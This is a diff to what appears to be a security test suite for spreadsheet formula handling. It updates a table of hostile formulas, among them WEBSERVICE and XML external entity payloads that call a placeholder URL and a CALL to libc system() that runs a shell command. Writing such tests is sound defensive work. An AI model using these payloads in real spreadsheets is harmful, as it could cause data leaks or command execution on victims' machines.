@@ -77,9 +77,9 @@ HOSTILE = {
     "a name defined as itself": Hostile("{f}+SELF", names={"SELF": "SELF"}),
     "array formula": Hostile("{f}+SUM(ROW(A1:A3))", array=True),
     "external workbook reference": Hostile("{f}+[1]Sheet1!A1"),
-    "WEBSERVICE": Hostile('{f}+LEN(WEBSERVICE("{url}/webservice"))'),
+    "WEBSERVICE": Hostile('{f}+LEN(_xlfn.WEBSERVICE("{url}/webservice"))'),
     "FILTERXML with an external entity": Hostile(
-        "{f}+LEN(FILTERXML(\"<!DOCTYPE r [<!ENTITY e SYSTEM '{url}/filterxml'>]><r>&e;</r>\",\"//r\"))",
+        "{f}+LEN(_xlfn.FILTERXML(\"<!DOCTYPE r [<!ENTITY e SYSTEM '{url}/filterxml'>]><r>&e;</r>\",\"//r\"))",
     ),
     "HYPERLINK": Hostile('{f}+LEN(HYPERLINK("{url}/hyperlink","x"))'),
     "CALL": Hostile('{f}+CALL("libc.so.6","system","JC","touch {marker}")'),
